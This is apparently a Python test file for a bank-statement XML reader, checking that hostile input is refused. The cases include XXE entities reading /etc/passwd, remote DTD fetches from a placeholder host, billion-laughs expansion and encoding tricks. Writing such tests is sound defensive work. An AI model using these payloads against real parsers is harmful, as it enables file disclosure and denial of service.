"""Laws of reading what a stranger wrote: XML that wants more than to be read is refused, quickly, and nothing of it is repeated."""

import tracemalloc
from pathlib import Path

import pytest
from lxml import etree

from clearing import errors
from settlement.files import markup
from settlement.files.confirmations import read
from tests.files.bank import entry, payment, statement

FINE = statement(entry("1234.00", payment("W47-PALM")), closing="8766.00").decode()
DECLARATION, INSIDE = FINE.split("?>", 1)
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


def with_type(declared: str, inside: str = INSIDE) -> str:
    return f"{DECLARATION}?>{declared}{inside}"


@pytest.mark.parametrize(
    ("body", "told"),
    [
        (with_type(f'<!DOCTYPE D [<!ENTITY l0 "ha">{LAUGHS}]>', INSIDE.replace("M-1", "&l9;")), "DOCTYPE"),
        (with_type('<!DOCTYPE D [<!ENTITY x SYSTEM "file:///etc/passwd">]>', INSIDE.replace("M-1", "&x;")), "DOCTYPE"),
        (with_type('<!DOCTYPE D SYSTEM "http://192.0.2.1/evil.dtd">'), "DOCTYPE"),
        (with_type('<!DOCTYPE D [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p;]>'), "DOCTYPE"),
        (with_type("<!DOCTYPE Document>"), "DOCTYPE"),
        (with_type('<!DOCTYPE D [<!ATTLIST Amt Ccy CDATA "EUR">]>'), "DOCTYPE"),
        (INSIDE.replace("M-1", "&undeclared;"), "not well-formed"),
        (FINE[:-20], "not well-formed"),
        (FINE + "<more/>", "not well-formed"),
        ("", "not well-formed"),
        ("camt", "not well-formed"),
        ("\x00" * 10, "not UTF-8"),
        (FINE.replace("M-1", "M&#0;1"), "not well-formed"),
        (FINE.replace("UTF-8", "ISO-8859-1"), "something else than UTF-8"),
        (FINE.replace("UTF-8", "UTF-7"), "something else than UTF-8"),
        ("<a>" * 200_000, "nested deeper"),
        ("<a>" * 33 + "</a>" * 33, "nested deeper"),
        ("<html><body/></html>", "not one message of ISO 20022"),
        (INSIDE.replace("urn:iso:std:iso:20022:tech:xsd:", "urn:other:"), "not one message of ISO 20022"),
        (INSIDE.replace("<Document", "<Dokument").replace("</Document", "</Dokument"), "not one message of ISO 20022"),
        (INSIDE.replace("</Document>", "<more/></Document>"), "not one message of ISO 20022"),
    ],
)
def test_hostile_or_broken_xml_is_refused_with_one_sentence(body: str, told: str) -> None:
    with pytest.raises(errors.RequestMalformed) as refused:
        read(body.encode())
    assert told in refused.value.detail
    assert "passwd" not in refused.value.detail
    assert "\n" not in refused.value.detail


def test_more_elements_than_any_statement_has_are_not_counted_to_their_end(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markup, "ELEMENTS_MAX", 1_000)
    with pytest.raises(errors.RequestMalformed, match="larger than any statement"):
        read(f"<D>{'<a/>' * 1_000}</D>".encode())
    with pytest.raises(errors.RequestMalformed, match="not one message of ISO 20022"):
        read(f"<D>{'<a/>' * 999}</D>".encode())


@pytest.mark.parametrize(
    ("body", "told"),
    [
        (FINE.encode("utf-16"), "not UTF-8"),
        (FINE.replace("UTF-8", "UTF-16").encode("utf-16"), "not UTF-8"),
        (with_type("<!DOCTYPE D>").encode("utf-16-le"), "not UTF-8"),
        (with_type("<!DOCTYPE D>").encode("utf-16-be"), "not UTF-8"),
        (with_type("<!DOCTYPE D>").encode("utf-32-le"), "not UTF-8"),
        (with_type("<!DOCTYPE D>").encode("cp037"), "not UTF-8"),
        (FINE.replace("M-1", "Müller").encode("latin-1"), "not UTF-8"),
        (b"\xff\xfe", "not UTF-8"),
        (b"\x1f\x8b\x08\x00" + b"\x00" * 20, "not UTF-8"),
    ],
)
def test_no_encoding_hides_anything(body: bytes, told: str) -> None:
    with pytest.raises(errors.RequestMalformed) as refused:
        read(body)
    assert told in refused.value.detail


def test_a_hundred_megabytes_are_refused_before_they_are_read() -> None:
    body = FINE.encode() + b" " * (100 * 1024 * 1024)
    tracemalloc.start()
    with pytest.raises(errors.BodyTooLarge, match="33,554,432"):
        read(body)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 1024 * 1024


def test_a_bomb_costs_nothing() -> None:
    tracemalloc.start()
    with pytest.raises(errors.RequestMalformed):
        read(with_type(f'<!DOCTYPE D [<!ENTITY l0 "ha">{LAUGHS}]>', INSIDE.replace("M-1", "&l9;")).encode())
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 1024 * 1024


def test_the_parser_itself_opens_no_entity_even_if_the_first_lock_were_gone(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("not for you")
    body = f'<!DOCTYPE a [<!ENTITY x SYSTEM "{secret.as_uri()}">]><a>&x;</a>'
    root = markup._parsed(body.encode())
    assert b"not for you" not in etree.tostring(root)


def test_comments_and_instructions_inside_a_field_hide_nothing_of_it() -> None:
    sly = FINE.replace("8766.00", "87<!-- 1 -->66<?x y?>.00").replace("W47-PALM", "<![CDATA[W47]]>-PALM")
    assert read(sly.encode()) == read(FINE.encode())


def test_a_byte_order_mark_and_other_prefixes_change_nothing() -> None:
    prefixed = FINE.replace("<", "<c:").replace("<c:/", "</c:").replace("<c:?", "<?").replace("xmlns=", "xmlns:c=")
    assert read(prefixed.encode()) == read(FINE.encode())
    assert read(FINE.encode("utf-8-sig")) == read(FINE.encode())


def test_what_stands_in_another_namespace_is_not_read() -> None:
    other = FINE.replace("<MsgId>M-1</MsgId>", '<MsgId xmlns="urn:x">M-1</MsgId>')
    with pytest.raises(errors.ValidationFailed, match="GrpHdr/MsgId is missing"):
        read(other.encode())
